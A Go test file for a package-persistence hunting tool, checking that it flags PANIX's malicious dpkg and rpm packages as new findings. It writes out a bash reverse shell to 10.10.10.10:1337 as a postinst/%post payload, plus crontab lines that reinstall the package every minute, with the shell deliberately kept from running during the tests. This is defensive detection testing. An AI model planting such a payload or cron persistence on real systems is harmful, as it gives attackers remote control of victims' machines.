package cli

import (
	"encoding/json"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/pkgpersist/pkgpersist/collector/hunt/hunttest"
	"github.com/pkgpersist/pkgpersist/collector/report"
	"github.com/pkgpersist/pkgpersist/collector/store"
	"github.com/pkgpersist/pkgpersist/extension/tables/packageorigins"
	"github.com/pkgpersist/pkgpersist/test/debtest"
	"github.com/pkgpersist/pkgpersist/test/need"
	"github.com/pkgpersist/pkgpersist/test/rpmtest"
)

// PANIX's --malicious-package (Aegrah/PANIX, modules/setup_malicious_package.sh,
// commit 3642cd97) run with --ip 10.10.10.10 --port 1337: the payload of
// its %post and postinst, and the crontab lines it installs.
const (
	panixPayload  = "nohup setsid bash -c 'bash -i >& /dev/tcp/10.10.10.10/1337 0>&1' &"
	panixRPMCron  = "*/1 * * * * rpm -i --force /var/lib/rpm/panix.rpm > /dev/null 2>&1\n"
	panixDpkgCron = "*/1 * * * * /var/lib/dpkg/info/panix.postinst configure > /dev/null 2>&1\n"
)

// TestHuntPanixDpkg: a hunt of a Debian root before and after PANIX's
// dpkg variant is planted for real (dpkg-deb --build, dpkg -i, the
// crontab line) reports the package's script, its origin and the cron
// line as new findings, and nothing else.
func TestHuntPanixDpkg(t *testing.T) {
	need.Program(t, "dpkg")
	root := dpkgBase(t)
	db := filepath.Join(t.TempDir(), "p.db")
	huntNew(t, db, root)

	// as PANIX does it, with a nohup that does nothing first on PATH so
	// the reverse shell never starts here (dpkg runs the postinst)
	dir := t.TempDir()
	stub := filepath.Join(dir, "bin")
	debtest.Must(t, os.MkdirAll(stub, 0o755))
	debtest.Must(t, os.WriteFile(filepath.Join(stub, "nohup"), []byte("#!/bin/sh\nexit 0\n"), 0o755))
	t.Setenv("PATH", stub+string(os.PathListSeparator)+os.Getenv("PATH"))
	src := filepath.Join(dir, "panix")
	debtest.Must(t, os.MkdirAll(filepath.Join(src, "DEBIAN"), 0o755))
	debtest.Must(t, os.WriteFile(filepath.Join(src, "DEBIAN/postinst"), []byte("#!/bin/sh\n"+panixPayload+"\n"), 0o755))
	debtest.Must(t, os.WriteFile(filepath.Join(src, "DEBIAN/control"), []byte("Package: panix\nVersion: 1.0\nArchitecture: all\n"+
		"Maintainer: https://github.com/Aegrah/PANIX\nDescription: This malicious package was added through PANIX\n"), 0o644))
	deb := filepath.Join(dir, "panix.deb")
	if out, err := exec.Command(need.Program(t, "dpkg-deb"), "--build", src, deb).CombinedOutput(); err != nil {
		t.Fatalf("dpkg-deb: %v\n%s", err, out)
	}
	debtest.Dpkg(t, root, "-i", deb)
	writeCron(t, root, "var/spool/cron/crontabs/root", panixDpkgCron)

	got := huntNew(t, db, root)
	want := []string{
		"cron-package-reinstall /var/lib/dpkg/info/panix.postinst configure",
		"package-scripts-suspicious-calls panix",
		"packages-from-local-file panix",
	}
	assertFindings(t, got, want)
}

// TestHuntPanixRPM: the same for PANIX's rpm variant on an EL-like root
// whose packages real dnf installed from a repository: rpmbuild of
// PANIX's spec, rpm -i --force (with --noscripts: its %post would open
// the shell), the package file moved to /var/lib/rpm/panix.rpm, the
// crontab line that re-installs it. rpm takes SOURCE_DATE_EPOCH as the
// install time, so a second case backdates panix's to 1970: its record
// in rpm's database still says it came after DNF's packages.
func TestHuntPanixRPM(t *testing.T) {
	for name, env := range map[string][]string{"now": nil, "backdated": {"SOURCE_DATE_EPOCH=1"}} {
		t.Run(name, func(t *testing.T) { huntPanixRPM(t, env) })
	}
}

// huntPanixRPM is TestHuntPanixRPM with env added to panix's rpm -i.
func huntPanixRPM(t *testing.T, env []string) {
	dir, root := t.TempDir(), t.TempDir()
	base := rpmtest.Build(t, dir, rpmtest.Spec{Name: "basesystem", Version: "11", Release: "13.el9",
		Body: "Summary: s\nLicense: MIT\nBuildArch: noarch\nProvides: /bin/sh\n%description\nd\n%files\n"})
	cronie := rpmtest.Build(t, dir, rpmtest.Spec{Name: "cronie", Version: "1.5.7", Release: "11.el9", Body: rpmtest.Noarch})
	conf := rpmtest.Repo(t, dir, base, cronie)
	rpmtest.DNF(t, dir, root, conf, "install", "cronie")
	debtest.Must(t, os.WriteFile(filepath.Join(root, "etc/crontab"), []byte("SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n"), 0o644))
	db := filepath.Join(t.TempDir(), "p.db")
	huntNew(t, db, root)

	panix := rpmtest.Build(t, dir, rpmtest.Spec{Name: "panix", Version: "1.0", Release: "1%{?dist}", Defines: []string{"dist .el9"},
		Body: "Summary: RPM package with payload script\nLicense: MIT\n\n%description\nRPM package with a payload script that executes a reverse shell.\n\n" +
			"%prep\n# No need to perform any preparation actions\n\n%install\n# Create directories\nmkdir -p %{buildroot}/usr/bin\n\n" +
			"%files\n# No need to specify any files here since the payload is embedded\n\n" +
			"%post\n# Trigger payload after installation\n" + panixPayload + "\n\n%clean\nrm -rf %{buildroot}\n"})
	rpmtest.RPMWith(t, dir, root, env, "-i", "--force", "--noscripts", panix)
	if env != nil {
		if got := rpmtest.RPM(t, dir, root, "-q", "--qf", "%{INSTALLTIME}", "panix"); got != "1" {
			t.Fatalf("rpm recorded panix's install time %q, not SOURCE_DATE_EPOCH's", got)
		}
	}
	b, err := os.ReadFile(panix)
	debtest.Must(t, err)
	debtest.Must(t, os.WriteFile(filepath.Join(root, "var/lib/rpm/panix.rpm"), b, 0o644))
	writeCron(t, root, "var/spool/cron/root", panixRPMCron)

	got := huntNew(t, db, root)
	want := []string{
		"cron-package-reinstall rpm -i --force /var/lib/rpm/panix.rpm",
		"package-scripts-suspicious-calls panix",
		"packages-from-local-file panix",
	}
	assertFindings(t, got, want)
	for _, r := range got {
		if r["query"] == "packages-from-local-file" && !strings.Contains(r["row"], packageorigins.NoHistory) {
			t.Errorf("panix's origin: %s", r["row"])
		}
	}
}

// huntNew hunts root into the store db and returns the findings new in
// this run.
func huntNew(t *testing.T, db, root string) []map[string]string {
	t.Helper()
	code, out, errs := runCLI("hunt", "--db", db, "--root", root, "--format", "json")
	hunttest.WantClean(t, code, errs)
	var rows []report.Record
	if err := json.Unmarshal([]byte(out), &rows); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	var news []map[string]string
	for _, r := range rows {
		if r.Change == store.New {
			// the row's fields as key=value text, for assertFindings
			var fields []string
			for k, v := range r.Row {
				fields = append(fields, k+"="+v)
			}
			sort.Strings(fields)
			news = append(news, map[string]string{"query": r.Query, "row": strings.Join(fields, " ")})
		}
	}
	return news
}

// assertFindings checks that the new findings are exactly the wanted
// ones, each given as its query and a text its row has.
func assertFindings(t *testing.T, got []map[string]string, want []string) {
	t.Helper()
	var have []string
	for _, r := range got {
		have = append(have, r["query"]+": "+r["row"])
	}
	sort.Strings(have)
	found := make([]bool, len(got))
	for _, w := range want {
		query, text, _ := strings.Cut(w, " ")
		ok := false
		for i, r := range got {
			if r["query"] == query && strings.Contains(r["row"], text) && !found[i] {
				found[i], ok = true, true
				break
			}
		}
		if !ok {
			t.Errorf("no new %s finding with %q; new findings:\n%s", query, text, strings.Join(have, "\n"))
		}
	}
	for i, r := range got {
		if !found[i] {
			t.Errorf("new finding not from the planting: %s: %s", r["query"], r["row"])
		}
	}
}

// dpkgBase is test/roots/panix-dpkg-malpkg as it was before PANIX ran:
// its Debian base without the panix package's files, status stanza, log
// lines and crontab.
func dpkgBase(t *testing.T) string {
	t.Helper()
	src := "../../test/roots/panix-dpkg-malpkg"
	root := t.TempDir()
	debtest.Must(t, filepath.WalkDir(src, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		dst := filepath.Join(root, rel)
		switch {
		case d.IsDir():
			return os.MkdirAll(dst, 0o755)
		case d.Type()&fs.ModeSymlink != 0:
			target, err := os.Readlink(p)
			if err != nil {
				return err
			}
			return os.Symlink(target, dst)
		case strings.HasPrefix(rel, "var/lib/dpkg/info/panix."), rel == "var/spool/cron/crontabs/root":
			return nil
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		switch rel {
		case "var/lib/dpkg/status":
			var keep []string
			for _, st := range strings.SplitAfter(string(b), "\n\n") {
				if !strings.HasPrefix(st, "Package: panix\n") {
					keep = append(keep, st)
				}
			}
			b = []byte(strings.Join(keep, ""))
		case "var/log/dpkg.log":
			b = nil
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		return os.WriteFile(dst, b, info.Mode().Perm())
	}))
	debtest.Must(t, os.MkdirAll(filepath.Join(root, "var/lib/dpkg/updates"), 0o755))
	if b, _ := os.ReadFile(filepath.Join(root, "var/lib/dpkg/status")); strings.Contains(string(b), "panix") {
		t.Fatal("the base still has panix")
	}
	return root
}

func writeCron(t *testing.T, root, name, text string) {
	t.Helper()
	debtest.Must(t, os.MkdirAll(filepath.Join(root, filepath.Dir(name)), 0o755))
	debtest.Must(t, os.WriteFile(filepath.Join(root, name), []byte(text), 0o600))
}
